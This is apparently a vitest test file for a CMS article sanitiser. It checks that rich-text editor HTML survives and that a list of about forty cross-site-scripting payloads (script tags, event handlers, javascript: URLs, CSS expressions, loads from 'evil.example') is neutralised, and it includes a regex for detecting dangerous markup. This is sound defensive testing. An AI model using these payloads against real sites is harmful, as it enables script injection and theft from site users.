// The editor's output is kept; anything a browser would execute never reaches storage.
import fc from 'fast-check'
import { expect, test } from 'vitest'
import {
  beginningOf,
  hasContent,
  sanitiseBody,
  textOfBody,
} from '../../../../src/server/features/cms/article/sanitise-body.ts'

test.each([
  '<p style="text-align:center;text-indent:2em">段<strong>落</strong></p>',
  '<p class="ql-align-center ql-indent-2">段落</p>',
  '<h2>标题</h2><blockquote><p>引用</p></blockquote>',
  '<ol><li data-list="bullet">项</li></ol>',
  '<table border="1" width="100%"><tbody><tr><td colspan="2" style="width:50%">格</td></tr></tbody></table>',
  '<table><tbody><tr><td>行一<br />行二</td></tr></tbody></table>',
  '<p><img src="/site/demo/assets/a.png" alt="图" width="100" /></p>',
  '<p><img src="data:image/png;base64,iVBORw0KGgo=" /></p>',
  '<video src="/uploads/a.mp4" controls="controls" poster="/uploads/a.jpg"></video>',
  '<audio src="https://example.com/a.mp3" controls="controls"></audio>',
  '<p><a href="https://example.com/?a=1&amp;b=2">链接</a> <a href="mailto:a@example.com">信</a></p>',
  '<p><span style="color:rgb(255, 0, 0);background-color:#ff0;font-size:18px">彩</span></p>',
])('%s is kept', async (html) => {
  expect(await sanitiseBody(html)).toBe(html)
})

test('a link that opens a window has no access to its opener', async () => {
  expect(await sanitiseBody('<a href="https://example.com/" target="_blank">x</a>')).toBe(
    '<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>',
  )
})

const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" / >',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example/"><input name="a"><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background-image:url(https://evil.example/t.gif)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<div style="-moz-binding:url(x)">x</div>',
  '<div style="border:1px solid url(javascript:alert(1))">x</div>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
  '<video><source onerror="alert(1)"></video>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x">',
  '<details open ontoggle=alert(1)>x</details>',
  '<p id="x" name="y" contenteditable onfocus=alert(1) autofocus>x</p>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p><<script>alert(1)//<</script>',
  '<xmp><script>alert(1)</script></xmp>',
  '<textarea></textarea><script>alert(1)</script>',
  '<a href="https://example.com" onmouseover="alert(1)" ping="https://evil.example">x</a>',
]

const dangerous =
  /<\s*(?:script|style|iframe|object|embed|form|input|button|base|meta|link|svg|math|template|textarea|xmp|noscript)\b|<[^>]*\son\w+\s*=|<[^>]*(?:javascript|vbscript|expression)\s*[:(]|<[^>]*\burl\s*\(|data:text|svg\+xml|position\s*:|z-index|<[^>]*\b(?:srcset|ping|srcdoc|formaction|background)=/i

/** The content of these is shown as text and never executed. */
function withoutTexts(html: string) {
  return html.replaceAll(/\s(?:title|alt)="[^"]*"/g, '')
}

test.each(vectors)('%s is made harmless', async (html) => {
  const clean = await sanitiseBody(html)
  expect(withoutTexts(clean)).not.toMatch(dangerous)
  expect(await sanitiseBody(clean)).toBe(clean)
})

test('sanitising twice changes nothing, whatever the input', async () => {
  const pieces = [
    ...vectors,
    '<p>',
    '</p>',
    '<b',
    '"',
    "'",
    '>',
    '&lt;',
    '&#x3c;',
    '字',
    '<td>',
    '<!--',
    '-->',
    '\u0000',
  ]
  const html = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 12 })), { maxLength: 8 })
  await fc.assert(
    fc.asyncProperty(html, async (parts) => {
      const clean = await sanitiseBody(parts.join(''))
      expect(withoutTexts(clean)).not.toMatch(dangerous)
      expect(await sanitiseBody(clean)).toBe(clean)
    }),
    { numRuns: 300 },
  )
})

test('removing a broken tag nests its content correctly in one pass', async () => {
  const clean = await sanitiseBody('<p>a<b<script>b</script><div>x</div>')
  expect(await sanitiseBody(clean)).toBe(clean)
})

test('the text of a body is one line, without markup', () => {
  expect(textOfBody('<h2>题</h2><p>一&nbsp;&lt;二&gt;<br/>三</p>')).toBe('题 一 <二> 三')
})

test('the beginning of a long body is that of its whole text', () => {
  const part = fc.constantFrom(
    '字',
    ' ',
    '&lt;',
    '&nbsp;',
    '<p style="color: red">',
    '</p>',
    '<br />',
    ' x '.repeat(300),
  )
  const picture = `<img src="data:image/png;base64,${'A'.repeat(6000)}" />`
  const html = fc.array(fc.oneof(part, fc.constant(picture)), { minLength: 1, maxLength: 60 })
  const property = fc.property(html, fc.integer({ min: 1, max: 400 }), (parts, length) => {
    const whole = parts.join('').repeat(4)
    expect(beginningOf(whole, length)).toBe(textOfBody(whole).slice(0, length).trim())
  })
  fc.assert(property)
})

test.each([
  ['<p><br /></p>', false],
  ['<p>&nbsp;</p>', false],
  ['<p>字</p>', true],
  ['<p><img src="/a.png" /></p>', true],
  ['<table><tbody></tbody></table>', true],
])('%s has content: %s', (html, expected) => {
  expect(hasContent(html)).toBe(expected)
})

test.each(['<', '<img ', '<p><', '<!--', '<b>', '&'])('a body full of %s is sanitised quickly', async (piece) => {
  const clean = await sanitiseBody(piece.repeat(100_000 / piece.length))
  expect(hasContent(clean)).toBe(['<', '&', '<p><'].includes(piece))
})

test('what the rich-text editor writes is kept', async () => {
  const written = [
    '<h2 style="text-align:center">标题</h2>',
    '<p style="text-indent:2em;line-height:1.75;padding-left:4em"><strong>粗</strong><em>斜</em><u>下</u><s>删</s></p>',
    '<p><span style="color:rgb(255, 0, 0);background-color:#ffff00;font-size:24px">红</span> <code>码</code></p>',
    '<ul><li>一<ol><li>二</li></ol></li></ul><blockquote>引</blockquote><pre>\n x  y\n</pre><hr />',
    '<table border="1" style="border-collapse:collapse;width:100%"><tbody><tr><td style="text-align:center">甲</td><td><br /></td></tr></tbody></table>',
    '<p><img src="/uploads/a.png" alt="图" width="50%" /><a href="/uploads/a.pdf" download="a.pdf">a.pdf</a></p>',
    '<p><a href="https://a.test/" target="_blank" rel="noopener noreferrer">链接</a></p>',
    '<video src="/uploads/a.mp4" controls></video>',
    '<audio src="/uploads/a.mp3" controls></audio>',
  ].join('\n')
  expect(await sanitiseBody(written)).toBe(written)
})
